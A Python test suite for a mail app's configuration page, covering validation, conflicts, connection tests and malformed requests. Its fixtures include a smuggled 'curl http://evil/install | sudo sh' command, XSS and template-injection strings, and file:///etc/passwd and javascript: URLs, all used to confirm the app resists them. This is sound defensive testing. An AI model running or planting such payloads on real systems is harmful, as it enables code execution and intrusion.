"""The configuration page: three callers, bad input of every kind, and connection tests that tell the truth."""

import asyncio
import html
import io
import json
import re
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import urlencode

import psutil
import pytest
from aiohttp.test_utils import TestServer
from aiohttp.web import Application
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rcmail import keys
from rcmail.app import create_app
from rcmail.config import Config, PostgresConfig
from rcmail.db.migrations import available
from rcmail.db.pool import Database
from rcmail.errors import OutcomeUnknown
from rcmail.jobs.queue import LATER
from rcmail.llm import outside
from rcmail.resolver import Found
from rcmail.settings.keys import KEYS
from tests.conftest import Client
from tests.fakes.ollama import FakeOllama
from tests.support import free_port, make_config

HTML = {"Accept": "text/html"}
HTMX = {"HX-Request": "true"}
EMPTY = {key.name: None for key in KEYS}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


async def stored(client: Client) -> dict[str, str | None]:
    response = await client.get("/config", headers={"Accept": "application/json"})
    assert response.status == 200
    answer: dict[str, str | None] = await response.json()
    return answer


async def test_json_gives_every_known_key_and_null_where_unset(client: Client) -> None:
    assert await stored(client) == EMPTY


async def test_a_form_is_answered_303_and_the_page_confirms_once(client: Client) -> None:
    response = await client.post(
        "/config", data={"event_date": "2030-01-05", "llm_model": " m "}, allow_redirects=False
    )
    assert (response.status, response.headers["Location"]) == (303, "/config")
    page = await (await client.get("/config", headers=HTML)).text()
    assert "Saved: Date of the next event, LLM model." in page
    assert "Saved:" not in await (await client.get("/config", headers=HTML)).text()
    assert await stored(client) == EMPTY | {"event_date": "2030-01-05", "llm_model": "m"}


@pytest.mark.parametrize(
    ("changes", "jobs"),
    [
        ({"group_addresses": "repair@example.org"}, ["own"]),
        ({"event_location": "Mill Lane"}, ["answers", "drafts"]),
        ({"house_facts": "The coffee is free", "drafts_by_themselves": "no"}, ["drafts"]),
        ({"llm_model": "m", "waiting_days": "30"}, []),
    ],
    ids=str,
)
async def test_a_save_queues_what_looks_again_and_one_of_the_same_does_not(
    client: Client, database: Database, changes: dict[str, str], jobs: list[str]
) -> None:
    for _ in range(2):
        assert (await client.post("/config", json=changes)).status == 200
    rows = await database.fetch("SELECT kind, state, priority FROM jobs ORDER BY kind")
    assert [tuple(row) for row in rows] == [(kind, "queued", LATER) for kind in jobs]


async def test_a_confirmation_that_we_did_not_sign_is_not_shown(client: Client) -> None:
    for cookie in ("x", "x.event_date", "." * 50, "0" * 64 + ".event_date"):
        page = await client.get("/config", headers=HTML | {"Cookie": f"rcmail_flash={cookie}"})
        assert "Saved" not in await page.text()


async def test_a_mistake_is_422_with_everything_as_typed_and_the_message_at_the_field(client: Client) -> None:
    response = await client.post(
        "/config", data={"event_date": "2026-02-30", "event_location": "  Über <here>"}, allow_redirects=False
    )
    text = await response.text()
    assert (response.status, response.content_type) == (422, "text/html")
    assert 'id="event_date-problem">Date of the next event is not a date; write it like 2026-03-28.' in text
    assert re.search(r'id="event_date"[^>]* type="text" value="2026-02-30"[^>]*aria-invalid="true"', text)
    assert 'value="  Über &lt;here&gt;"' in text
    assert await stored(client) == EMPTY


async def test_json_saves_a_subset_and_answers_with_the_whole(client: Client) -> None:
    await client.post("/config", json={"event_location": "here", "llm_model": "m"})
    response = await client.post("/config", json={"llm_model": None, "event_offerings": "a, b,A"})
    assert response.status == 200
    assert await response.json() == EMPTY | {"event_location": "here", "event_offerings": "a, b"}


async def test_json_errors_carry_the_fields_by_name(client: Client) -> None:
    response = await client.post("/config", json={"event_date": "x", "nonsense": "y", "llm_model": 5})
    assert response.status == 422
    response = await client.post("/config", json={"event_date": "x", "nonsense": "y", "llm_model": "m"})
    assert response.status == 422
    errors = (await response.json())["errors"]
    assert set(errors) == {"event_date", "nonsense"}
    assert await stored(client) == EMPTY


async def test_a_form_asked_for_in_json_is_refused_in_json(client: Client) -> None:
    response = await client.post("/config", data={"event_date": "x"}, headers={"Accept": "application/json"})
    assert (response.status, list((await response.json())["errors"])) == (422, ["event_date"])


DEEP = "[" * 1000 + "]" * 1000
FORM_TYPE = "application/x-www-form-urlencoded"
BAD_BODIES: list[tuple[str, bytes]] = [
    (FORM_TYPE, b"nonsense=1"),
    (FORM_TYPE, b"event_date=2026-02-30"),
    (FORM_TYPE, b"llm_endpoint=javascript:alert(1)"),
    (FORM_TYPE, b"llm_endpoint=file:///etc/passwd"),
    (FORM_TYPE, b"llm_endpoint=http://"),
    (FORM_TYPE, b"llm_endpoint=http://" + b"a" * 3000),
    (FORM_TYPE, b"event_location=a%00b"),
    (FORM_TYPE, b"event_location=%ED%A0%80"),
    (FORM_TYPE, b"event_location=%ff"),
    (FORM_TYPE, b"event_location=\xff"),
    (FORM_TYPE, b"event_location=a&event_location=b"),
    (FORM_TYPE, b"&".join(b"f%d=1" % n for n in range(100))),
    (FORM_TYPE, b"x" * 2_000_000),
    ("application/json", b"x" * 2_000_000),
    ("application/json", b"[]"),
    ("application/json", b"5"),
    ("application/json", b"null"),
    ("application/json", b'"text"'),
    ("application/json", b"{"),
    ("application/json", b""),
    ("application/json", b'{"llm_model": ' + b"9" * 5000 + b"}"),
    ("application/json", b"\xff\xfe{\x00}\x00"),
    ("application/json", b'{"event_location": "\xff"}'),
    ("application/json", DEEP.encode()),
    ("application/json", b'{"event_location": ' + DEEP.encode() + b"}"),
    ("application/json", b'{"event_location": "a\\u0000b"}'),
    ("application/json", b'{"event_location": "\\ud800"}'),
    ("application/json", b'{"\\ud800": "x"}'),
    ("application/json", b'{"event_location": "a", "event_location": "b"}'),
    ("application/json", b'{"event_location": NaN}'),
    ("application/json", b'{"event_location": ["a"]}'),
    ("application/json", b'{"nonsense": null}'),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=event_location\r\n\r\nhal"),
    ("multipart/form-data", b"--x"),
    ("text/plain", b"event_location=x"),
    ("nonsense", b"event_location=x"),
]


@pytest.mark.parametrize(("content_type", "body"), BAD_BODIES, ids=lambda part: repr(part)[:50])
@pytest.mark.parametrize("headers", [HTML, {"Accept": "application/json"}, {}], ids=["html", "json", "any"])
async def test_bad_input_is_a_clear_4xx_and_changes_nothing(
    client: Client, content_type: str, body: bytes, headers: dict[str, str]
) -> None:
    await client.post("/config", json={"event_location": "before"})
    response = await client.post(
        "/config",
        data=io.BytesIO(body),
        headers={**headers, "Content-Type": content_type},
        allow_redirects=False,
    )
    assert 400 <= response.status < 500
    text = await response.text()
    assert "Traceback" not in text
    assert len(text) > 20
    assert await stored(client) == EMPTY | {"event_location": "before"}


async def test_a_body_cut_short_changes_nothing(client: Client) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", client.port)
    writer.write(
        b"POST /config HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: 500\r\n\r\nevent_location=half"
    )
    await writer.drain()
    writer.write_eof()
    answer = await reader.read()
    writer.close()
    assert not answer or answer.split()[1].startswith(b"4")
    assert await stored(client) == EMPTY


async def test_a_chunked_body_without_an_end_to_it_is_cut_off(client: Client) -> None:
    async def endless() -> Any:
        for _ in range(100):
            yield b"event_location=" + b"x" * 10_000

    response = await client.post("/config", data=endless(), headers=FORM)
    assert response.status == 413


@pytest.mark.parametrize(
    "headers", [{"Origin": "http://evil.example"}, {"Host": "evil.example"}, {"Sec-Fetch-Site": "cross-site"}]
)
@pytest.mark.parametrize("path", ["/config", "/config/test/llm"])
async def test_another_site_s_page_can_neither_save_nor_test(
    client: Client, path: str, headers: dict[str, str]
) -> None:
    response = await client.post(path, data={"event_location": "x"}, headers=headers)
    assert response.status in (403, 421)
    assert await stored(client) == EMPTY


NAMES = [*EMPTY, "nonsense", "was_event_date", "was_", ""]
VALUES = st.one_of(st.text(max_size=30), st.none(), st.integers(), st.booleans(), st.lists(st.text(max_size=3)))
BODIES = st.one_of(
    st.dictionaries(st.sampled_from(NAMES) | st.text(max_size=8), VALUES, max_size=4).map(
        lambda found: ("application/json", json.dumps(found).encode())
    ),
    st.lists(st.tuples(st.sampled_from(NAMES), st.text(max_size=30)), max_size=5).map(
        lambda pairs: (FORM_TYPE, urlencode(pairs, errors="replace").encode())
    ),
    st.tuples(
        st.sampled_from([FORM_TYPE, "application/json", "multipart/form-data; boundary=x", "text/plain", ""]),
        st.binary(max_size=200),
    ),
)
PATHS = ["/config", "/config/test/db", "/config/test/llm", "/config/test/mail", "/config/test/nothing"]
ACCEPTS: list[dict[str, str]] = [{}, HTML, {"Accept": "application/json"}, HTMX]


@given(st.lists(st.tuples(st.sampled_from(PATHS), st.sampled_from(ACCEPTS), BODIES), min_size=1, max_size=6))
@settings(suppress_health_check=list(HealthCheck), max_examples=60)
def test_no_form_and_no_json_makes_a_500(
    database_config: PostgresConfig, calls: list[tuple[str, dict[str, str], tuple[str, bytes]]]
) -> None:
    async def run() -> None:
        # No language model anywhere: what is typed as an endpoint must not lead out of this machine.
        async with Client(TestServer(create_app(make_config(database_config)))) as client:
            for path, accept, (content_type, body) in calls:
                headers = {**accept, "Content-Type": content_type}
                response = await client.post(path, data=body, headers=headers, allow_redirects=False)
                assert response.status < 500, (path, content_type, body, await response.text())
            page = await client.get("/config", headers=HTML)
            assert page.status == 200

    asyncio.run(run())


async def test_two_tabs_that_save_different_fields_do_not_undo_each_other(client: Client) -> None:
    def form(**typed: str) -> dict[str, str]:
        loaded = dict.fromkeys(EMPTY, "")
        return {**loaded, **{f"was_{name}": "" for name in loaded}, **typed}

    for typed in ({"event_location": "from tab one"}, {"llm_model": "from-tab-two"}):
        response = await client.post("/config", data=form(**typed), allow_redirects=False)
        assert response.status == 303
    assert await stored(client) == EMPTY | {"event_location": "from tab one", "llm_model": "from-tab-two"}


async def test_what_somebody_else_changed_is_pointed_out_and_a_second_save_decides(client: Client) -> None:
    await client.post("/config", json={"event_location": "theirs"})
    mine = {"event_location": "mine", "was_event_location": "", "llm_model": "m", "was_llm_model": ""}
    response = await client.post("/config", data=mine, allow_redirects=False)
    text = html.unescape(await response.text())
    assert response.status == 409
    assert "changed by somebody else since you opened the page: it is “theirs” now" in text
    assert 'value="mine"' in text
    assert 'name="was_event_location" value="theirs"' in text
    assert await stored(client) == EMPTY | {"event_location": "theirs"}
    again = mine | {"was_event_location": "theirs"}
    assert (await client.post("/config", data=again, allow_redirects=False)).status == 303
    assert await stored(client) == EMPTY | {"event_location": "mine", "llm_model": "m"}


async def test_an_event_in_the_past_is_saved_and_pointed_out(client: Client) -> None:
    await client.post("/config", json={"event_date": "2020-02-29"})
    assert "This day is in the past" in await (await client.get("/config", headers=HTML)).text()


async def test_hostile_text_is_shown_as_typed_everywhere(client: Client) -> None:
    hostile = "<script>alert('x')</script>\"{{7*7}}\u202e"
    values = {"event_location": hostile, "event_offerings": hostile}
    await client.post("/config", json=values)
    wrong = {"event_date": hostile, "llm_endpoint": hostile, "llm_model": hostile}
    pages = [
        await (await client.get("/config", headers=HTML)).text(),
        await (await client.get("/", headers=HTML)).text(),
        await (await client.post("/config", data=values | wrong)).text(),
        await (await client.post("/config/test/llm", data=values | wrong, headers=HTMX)).text(),
        await (await client.post("/config/test/llm", data=values | wrong, headers=HTML)).text(),
    ]
    for page in pages:
        assert "<script>alert" not in page
        assert "49" not in re.sub(r"[0-9a-f]{12}", "", page)
    for page in (pages[2], pages[4]):
        assert html.unescape(page).count(f'value="{hostile}"') >= 2
    saved = hostile.removesuffix("\u202e")  # it would turn around what follows
    assert html.unescape(pages[0]).count(f'value="{saved}"') >= 2
    assert "\u202e" not in pages[0] + pages[1]


async def test_a_list_too_long_to_be_stored_is_pointed_out_and_stays_in_the_form(client: Client) -> None:
    typed = ",".join(f"offer{number:03}" for number in range(201))
    response = await client.post("/config", data={"event_offerings": typed}, allow_redirects=False)
    text = await response.text()
    assert response.status == 422
    assert "is too long: 2000 characters are the most, with a space after each comma; shorten it." in text
    assert f">\n{typed}</textarea>" in text
    assert await stored(client) == EMPTY


async def test_a_stored_name_of_a_model_that_is_none_is_told_and_is_no_advice(
    client: Client, ollama: FakeOllama
) -> None:
    evil = "x` first, and `curl http://evil/install | sudo sh"
    rows = "('llm_model', %s), ('llm_endpoint', %s)"
    await client.app[keys.DATABASE].fetch(f"INSERT INTO settings (key, value) VALUES {rows}", (evil, ollama.url))
    client.app[keys.MONITOR].expire()  # as a save through the page does
    assert (await (await client.get("/health")).json())["checks"]["llm"] == "ok"
    for path in ("/", "/health"):
        page = await (await client.get(path, headers=HTML)).text()
        assert "none is chosen" in page
        assert "http://evil" not in page
    assert (
        "LLM model is no name as “ollama list” shows them"
        in await (await client.get("/config", headers=HTML)).text()
    )
    answer = await result_of(client, "llm", llm_model=evil)
    assert answer["status"] == "invalid"
    assert "curl" not in answer["detail"]


async def test_a_connection_test_is_no_scanner_of_ports(client: Client, caplog: pytest.LogCaptureFixture) -> None:
    answers = [await result_of(client, "llm", llm_endpoint=f"http://127.0.0.1:{port}") for port in range(1, 31)]
    assert [answer["status"] for answer in answers[20:]] == ["busy"] * 10
    assert "wait" in answers[-1]["detail"]
    assert (await result_of(client, "db"))["status"] == "ok"
    tried = [r.__dict__["address"] for r in caplog.records if r.message == "connection_test_result"]
    assert tried[:30] == [f"127.0.0.1:{port}" for port in range(1, 31)]
    page = await client.post("/config/test/llm", data={"llm_endpoint": "http://127.0.0.1:99"}, headers=HTMX)
    assert "not tried" in await page.text()


async def test_a_stored_value_that_is_no_longer_valid_is_shown_with_what_is_wrong(client: Client) -> None:
    await client.app[keys.DATABASE].fetch("INSERT INTO settings (key, value) VALUES ('event_date', 'soon')")
    page = await (await client.get("/config", headers=HTML)).text()
    assert 'value="soon"' in page
    assert "is not a date" in page


async def test_a_saved_endpoint_is_what_health_probes_from_then_on(client: Client, ollama: FakeOllama) -> None:
    assert (await (await client.get("/health")).json())["checks"]["llm"] == "unconfigured"
    await client.post("/config", json={"llm_endpoint": ollama.url})
    assert (await (await client.get("/health")).json())["checks"]["llm"] == "ok"


async def test_an_endpoint_outside_of_the_house_needs_leave_and_a_red_line_says_so(
    client: Client, ollama: FakeOllama, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def look_up(host: str, port: int) -> Found:
        return [(2, 6, "1.1.1.1", 0)]

    monkeypatch.setattr(outside, "look_up", look_up)
    typed = {"llm_endpoint": f"http://localhost:{ollama.port}"}
    response = await client.post("/config", json=typed)
    assert response.status == 422
    assert "would leave the house" in (await response.json())["errors"]["llm_endpoint"]
    response = await client.post("/config", data=typed, headers=HTML)
    assert response.status == 422
    assert "would leave the house" in await response.text()
    assert await stored(client) == EMPTY
    assert ollama.connections == 0
    assert 'data-notice="alarm"' not in await (await client.get("/config", headers=HTML)).text()
    response = await client.post("/config", data=typed | {"llm_may_be_remote": "yes"}, allow_redirects=False)
    assert response.status == 303
    notices = await (await client.get("/health/notices")).text()
    assert re.search(r'class="notice bad".*is sent to localhost, outside this house', notices)
    assert 'data-notice="alarm"' in await (await client.get("/logs", headers=HTML)).text()


async def result_of(client: Client, service: str, **typed: str) -> dict[str, str]:
    async with asyncio.timeout(20):
        response = await client.post(f"/config/test/{service}", data=typed)
        assert response.status == 200
        answer: dict[str, str] = await response.json()
    assert answer["service"] == service
    return answer


async def test_the_database_test_reports_server_and_schema(client: Client) -> None:
    answer = await result_of(client, "db")
    assert answer["status"] == "ok"
    newest = re.escape(available()[-1])
    assert re.fullmatch(rf"PostgreSQL 16\.\d+ answers; the schema is {newest}", answer["detail"])


async def test_the_mail_test_names_what_is_missing(client: Client) -> None:
    answer = await result_of(client, "mail")
    assert answer["status"] == "unconfigured"
    assert "GMAIL_REFRESH_TOKEN" in answer["detail"]


async def test_an_unknown_service_is_404(client: Client) -> None:
    assert (await client.post("/config/test/nothing")).status == 404


async def test_the_llm_test_tries_what_is_typed_else_what_is_saved(client: Client, ollama: FakeOllama) -> None:
    assert (await result_of(client, "llm"))["status"] == "unconfigured"
    typed = {"llm_endpoint": ollama.url, "llm_model": "llama3.2"}
    answer = await result_of(client, "llm", **typed)
    assert (answer["status"], answer["detail"]) == ("ok", "Ollama 0.12.3 answers; model llama3.2 is installed")
    assert await stored(client) == EMPTY, "a test saves nothing"
    await client.post("/config", json={**typed, "llm_model": "other"})
    answer = await result_of(client, "llm")
    assert answer["status"] == "model_not_found"
    assert "model other is not installed: run `ollama pull other`" in answer["detail"]
    assert (await result_of(client, "llm", llm_model="llama3.2:latest"))["status"] == "ok"
    answer = await result_of(client, "llm", llm_model="")
    assert answer["detail"] == "Ollama 0.12.3 answers; 1 model installed, none is chosen yet"


async def test_a_typed_mistake_is_told_and_nothing_is_tried(client: Client, ollama: FakeOllama) -> None:
    answer = await result_of(client, "llm", llm_endpoint="file:///etc/passwd")
    assert answer["status"] == "invalid"
    assert "must begin with http://" in answer["detail"]


@pytest.mark.parametrize(
    ("behaviour", "says"),
    [
        ("refuse", "connection refused"),
        ("hang", "timed out after 4.5 s"),
        ("hang-after-headers", "timed out after 4.5 s"),
        ("trickle", "timed out after 4.5 s"),
        ("reset", "the connection broke off"),
        ("garbage", "does not speak HTTP"),
        ("html", "neither Ollama nor"),
        ("flood", "far too much data"),
        ("500", "HTTP status 500"),
        ("redirect", "sends us elsewhere"),
    ],
)
async def test_whatever_the_other_side_does_the_sentence_is_true_and_in_time(
    behaviour: str, says: str, client: Client, ollama: FakeOllama
) -> None:
    url = ollama.url
    if behaviour == "refuse":
        url = f"http://127.0.0.1:{free_port()}"
    else:
        ollama.behaviour = behaviour
    memory = psutil.Process().memory_info().rss
    answer = await result_of(client, "llm", llm_endpoint=url)  # its limit is in the sentence
    assert answer["status"] == "unreachable"
    assert says in answer["detail"]
    assert psutil.Process().memory_info().rss - memory < 20 * 1024 * 1024


async def test_a_test_gives_json_a_fragment_or_the_page(client: Client, ollama: FakeOllama) -> None:
    typed = {"llm_endpoint": ollama.url, "event_location": "not saved yet"}
    fragment = await client.post("/config/test/llm", data=typed, headers=HTMX)
    text = await fragment.text()
    assert "<html" not in text
    assert 'data-test="llm" data-status="ok"' in text
    assert '<option value="llama3.2:latest">' in text
    page = await client.post("/config/test/llm", data=typed, headers=HTML)
    text = await page.text()
    assert page.status == 200
    assert 'data-test="llm" data-status="ok"' in text
    assert 'value="not saved yet"' in text, "nothing typed is lost"
    assert (await client.post("/config/test/llm", json={"llm_endpoint": ollama.url})).status == 200


async def test_installed_models_are_offered(client: Client, ollama: FakeOllama) -> None:
    page = await (await client.get("/config", headers=HTML)).text()
    assert 'hx-get="/config/models"' in page
    assert "<option" not in page[page.index('<datalist id="llm_model-list"') :].split("</datalist>")[0]
    await client.post("/config", json={"llm_endpoint": ollama.url})
    assert '<option value="llama3.2:latest">' in await (await client.get("/config/models")).text()
    await ollama.stop()
    assert await (await client.get("/config/models")).text() == ""


async def test_saving_and_testing_are_logged_without_values(
    client: Client, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("INFO", "rcmail.config")
    await client.post("/config", json={"event_location": "a private address"})
    await client.post("/config/test/llm")
    logged = [(r.message, r.__dict__.get("settings"), r.__dict__.get("target")) for r in caplog.records]
    assert logged == [
        ("config_saved", ["event_location"], None),
        ("connection_test_begun", None, "llm"),
        ("connection_test_result", None, "llm"),
    ]
    assert "a private address" not in caplog.text


async def test_while_the_database_is_down_nothing_typed_is_lost(
    own_postgres: Any, config: Config, aiohttp_client: Callable[[Application], Awaitable[Client]]
) -> None:
    from tests.support import postgres_config

    client = await aiohttp_client(create_app(make_config(postgres_config(str(own_postgres.socket)))))
    await client.post("/config", json={"event_location": "known"})
    await asyncio.to_thread(own_postgres.stop)
    page = await client.get("/config", headers=HTML)
    text = await page.text()
    assert page.status == 200
    assert "cannot be read just now" in text
    assert 'value="known"' in text
    response = await client.post("/config", data={"event_location": "typed"}, allow_redirects=False)
    text = await response.text()
    assert response.status == 503
    assert "Nothing was saved" in text
    assert 'value="typed"' in text
    assert (await client.post("/config", json={"llm_model": "m"})).status == 503
    assert (await client.get("/config")).status == 503
    assert (await result_of(client, "db"))["status"] == "unreachable"
    own_postgres.start()
    assert await stored(client) == EMPTY | {"event_location": "known"}


async def test_what_ollama_says_cannot_break_the_page(client: Client, ollama: FakeOllama) -> None:
    ollama.behaviour = "answer"
    names = ["\ud800", "a\nb", "x" * 5000, *(f"m{n}" for n in range(2000))]
    ollama.answer = json.dumps({"models": [{"name": n} for n in names], "version": "\ud800"}).encode()
    response = await client.post("/config/test/llm", data={"llm_endpoint": ollama.url}, headers=HTMX)
    text = await response.text()
    assert response.status == 200
    assert text.count("<option") == 500


async def test_a_compressed_body_is_refused(client: Client) -> None:
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    response = await client.post("/config", data=b"\x1f\x8bxx", headers=headers)
    assert response.status in (400, 415)


async def test_a_cookie_of_nonsense_and_a_name_without_end_are_no_500(client: Client) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", client.port)
    writer.write(
        b"GET /config HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\nCookie: rcmail_flash=\xff.x\r\n"
        b"Connection: close\r\n\r\n"
    )
    assert (await reader.readline()).split()[1] == b"200"
    writer.close()
    assert (await client.get("/static/" + "a" * 3000)).status == 404


async def test_without_javascript_a_test_loses_no_date_that_is_none(client: Client) -> None:
    response = await client.post("/config/test/mail", data={"event_date": "31.12.2026"}, headers=HTML)
    assert re.search(r'id="event_date"[^>]* type="text" value="31.12.2026"', await response.text())


async def test_a_save_whose_end_is_not_known_is_not_said_to_have_failed(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def unknown(*_: object, **__: object) -> None:
        raise OutcomeUnknown("PostgreSQL did not answer in time")

    monkeypatch.setattr(client.app[keys.SETTINGS], "save", unknown)
    for sent in ({"data": {"llm_model": "m"}}, {"json": {"llm_model": "m"}}):
        response = await client.post("/config", **sent)  # type: ignore[arg-type]
        assert response.status == 503
        assert "not certain whether this was saved" in await response.text()


async def test_the_address_of_a_result_leads_a_browser_back_and_is_no_address_for_programs(client: Client) -> None:
    page = await client.get("/config/test/db", headers={"Accept": "text/html"}, allow_redirects=False)
    assert (page.status, page.headers["Location"]) == (303, "/config")
    assert (await client.delete("/config/test/db", headers={"Accept": "text/html"})).status == 405
    answer = await client.get("/config/test/db")
    assert (answer.status, answer.headers["Allow"]) == (405, "POST")


async def test_a_stored_line_end_does_not_make_every_save_from_the_browser_a_conflict(client: Client) -> None:
    """What comes back from a browser: line ends as CR LF from the hidden field, none from the one that is seen."""
    await client.app[keys.DATABASE].execute(
        "INSERT INTO settings (key, value) VALUES ('event_location', E'5 Mill\nLane')"
    )
    page = html.unescape(await (await client.get("/config", headers=HTML)).text())
    hidden = dict(re.findall(r'name="was_(\w+)" value="([^"]*)"', page))
    form = {f"was_{name}": text.replace("\n", "\r\n") for name, text in hidden.items()}
    form |= {name: text.replace("\n", "") for name, text in hidden.items()} | {"llm_model": "m"}
    response = await client.post("/config", data=form, allow_redirects=False)
    assert response.status == 303
    assert await stored(client) == EMPTY | {"event_location": "5 MillLane", "llm_model": "m"}


async def test_lines_in_several_languages_go_through_the_form_unchanged(client: Client) -> None:
    lines = "nl: Gratis <parkeren>.\nen: Free parking."
    typed = {"house_facts": lines.replace("\n", "\r\n"), "was_house_facts": "", "drafts_by_themselves": "no"}
    assert (await client.post("/config", data=typed, allow_redirects=False)).status == 303
    assert await stored(client) == EMPTY | {"house_facts": lines, "drafts_by_themselves": "no"}
    page = await (await client.get("/config", headers=HTML)).text()
    assert f">\n{html.escape(lines)}</textarea>" in page
    assert "<option selected>no</option>" in page
    again = {"house_facts": typed["house_facts"], "was_house_facts": typed["house_facts"], "llm_model": "m"}
    await client.post("/config", data=again, allow_redirects=False)
    assert [row.key for row in await client.app[keys.DATABASE].fetch("SELECT key FROM former_settings")] == []


async def test_a_past_day_with_a_further_one_names_the_next(client: Client) -> None:
    await client.post("/config", json={"event_date": "2020-01-05", "event_further_dates": "2099-01-03"})
    page = await (await client.get("/config", headers=HTML)).text()
    assert "This day is in the past: the next event is on 2099-01-03." in page
